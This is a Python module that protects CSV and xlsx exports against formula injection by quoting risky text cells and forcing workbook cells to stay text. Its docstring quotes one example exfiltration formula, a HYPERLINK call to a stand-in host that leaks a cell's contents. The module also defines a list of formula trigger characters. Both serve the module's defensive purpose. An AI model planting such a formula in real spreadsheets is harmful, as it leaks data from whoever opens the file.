"""Spreadsheet cells that are safe to open: text stays text, never a formula.

A region name or a note such as ``=HYPERLINK("http://x.example/?leak="&A1,"click")`` in a
monitoring file must not become a live formula in a workbook or a CSV file the suite
writes (CSV / formula injection; see OWASP's "CSV Injection" page).

* **xlsx**: openpyxl stores any string that starts with ``=`` as a formula (``data_type
  "f"``). :func:`write_cell` and :func:`no_formulas` store such strings as plain text
  (``data_type "s"``): the cell shows exactly the characters of the input, and nothing is
  evaluated.
* **CSV**: a program that opens a CSV file evaluates cells that start with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return. :func:`neutralise` prefixes such *text* with a
  single quote (``'``), as OWASP recommends; numbers stay numbers (``-1.5`` stored as a
  number is written as ``-1.5``).

Every CSV and xlsx file the suite writes goes through these helpers.
"""

from __future__ import annotations

import io
from typing import IO, Any

import numpy as np
import pandas as pd

__all__ = ["CSV_TRIGGERS", "neutralise", "neutralise_frame", "write_cell", "no_formulas", "frame_to_xlsx",
           "frame_to_csv"]

#: First characters that make a spreadsheet program treat a CSV cell as a formula.
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a CSV cell: text starting with :data:`CSV_TRIGGERS` gets a
    leading ``'``; anything else (numbers, missing values, other text) is returned as is."""
    if isinstance(value, str) and value.startswith(CSV_TRIGGERS):
        return "'" + value
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are :func:`neutralised <neutralise>`.

    Numeric columns are not touched (numbers stay numbers).
    """
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def frame_to_csv(df: pd.DataFrame, **kwargs) -> str:
    """``df.to_csv`` after :func:`neutralise_frame` (``index=False``, ``\\n`` line ends by default).

    Without other options (the CLI's case) the text is built column by column
    (:func:`_fast_csv`): each distinct text value is neutralised and quoted once, numbers
    are written as ``repr`` (the shortest text that reads back to the same float, what
    ``to_csv`` writes) - the same bytes as ``neutralise_frame(df).to_csv(...)``, several
    times faster on large tables.
    """
    kwargs.setdefault("index", False)
    kwargs.setdefault("lineterminator", "\n")
    if set(kwargs) == {"index", "lineterminator"} and kwargs["index"] is False and kwargs["lineterminator"] == "\n":
        text = _fast_csv(df)
        if text is not None:
            return text
    return neutralise_frame(df).to_csv(**kwargs)


def _quote(text: str) -> str:
    """A CSV field as ``csv.QUOTE_MINIMAL`` writes it (delimiter ``,``, quote ``"``, ``\\n`` line ends)."""
    if any(c in text for c in ',"\n\r'):
        return '"' + text.replace('"', '""') + '"'
    return text


def _take(texts: list[str], codes: np.ndarray) -> list[str]:
    """``texts[code]`` for each code, ``""`` for -1 (missing)."""
    table = np.array(texts + [""], dtype=object)
    return table[codes].tolist()


def _csv_column(col: pd.Series) -> list[str] | None:
    """The CSV fields of one column (as ``to_csv`` writes them after neutralising), or None
    when the column's type is not one handled here."""
    dtype = col.dtype
    if dtype == np.float64:
        values = col.to_numpy()
        codes, uniq = pd.factorize(values, use_na_sentinel=True)
        fields = _take(list(map(repr, uniq.tolist())), codes)
        zero = np.flatnonzero(values == 0.0)  # factorize takes -0.0 and 0.0 for one value
        for i in zero[np.signbit(values[zero])].tolist():
            fields[i] = "-0.0"
        for i in zero[~np.signbit(values[zero])].tolist():
            fields[i] = "0.0"
        return fields
    if dtype == np.int64 or dtype == np.bool_:
        codes, uniq = pd.factorize(col.to_numpy(), use_na_sentinel=True)
        return _take(list(map(str, uniq.tolist())), codes)
    if isinstance(dtype, pd.Int64Dtype):
        codes, uniq = pd.factorize(col, use_na_sentinel=True)
        return _take([str(int(v)) for v in np.asarray(uniq, dtype=np.int64).tolist()], codes)
    if dtype == object or isinstance(dtype, pd.StringDtype):
        if len(col) and pd.api.types.infer_dtype(col, skipna=True) not in ("string", "empty"):
            return None
        codes, uniq = pd.factorize(col, use_na_sentinel=True)
        return _take([_quote(neutralise(v)) for v in np.asarray(uniq, dtype=object).tolist()], codes)
    return None


def _fast_csv(df: pd.DataFrame) -> str | None:
    """``neutralise_frame(df).to_csv(index=False, lineterminator="\\n")`` built column by column,
    or None for a frame this does not handle (other column types, duplicate or non-text
    names, fewer than two columns)."""
    if df.shape[1] < 2 or not all(isinstance(c, str) for c in df.columns) or df.columns.has_duplicates:
        return None
    parts = [",".join(_quote(neutralise(c)) for c in df.columns) + "\n"]
    for start in range(0, len(df), _CHUNK_ROWS):  # in slices: fewer text objects alive at once
        part = df.iloc[start:start + _CHUNK_ROWS]
        cols = []
        for name in part.columns:
            fields = _csv_column(part[name])
            if fields is None:
                return None
            cols.append(fields)
        parts.append("\n".join(map(",".join, zip(*cols))) + "\n")
    if len(df) == 0 and any(_csv_column(df[name]) is None for name in df.columns):
        return None
    return "".join(parts)


_CHUNK_ROWS = 20_000


def write_cell(ws, row: int, column: int, value: Any):
    """``ws.cell(row, column, value)`` that stores text as text, never as a formula."""
    cell = ws.cell(row=row, column=column, value=value)
    if isinstance(value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def no_formulas(wb) -> int:
    """Turn every formula cell of workbook ``wb`` back into the text it came from.

    For workbooks the suite builds from data (they carry no formulas of their own).
    Returns the number of cells changed.
    """
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.data_type = "s"
                    n += 1
    return n


def frame_to_xlsx(df: pd.DataFrame, fh: IO[bytes] | None = None, *, sheet_name: str = "data") -> bytes:
    """``df`` as a one-sheet workbook (header row, then the values; text stored as text).

    Writes to ``fh`` when given; returns the bytes.
    """
    from openpyxl import Workbook  # heavy (~0.1 s) and only for xlsx: not on the csv/json command line path

    wb = Workbook()
    ws = wb.active
    ws.title = sheet_name[:31]
    for j, name in enumerate(df.columns, start=1):
        write_cell(ws, 1, j, str(name))
    for i, row in enumerate(df.itertuples(index=False), start=2):
        for j, v in enumerate(row, start=1):
            if v is None or v is pd.NA or v is pd.NaT or (isinstance(v, float) and v != v):
                continue
            if hasattr(v, "item"):  # numpy scalar
                v = v.item()
            write_cell(ws, i, j, v)
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    if fh is not None:
        fh.write(data)
    return data
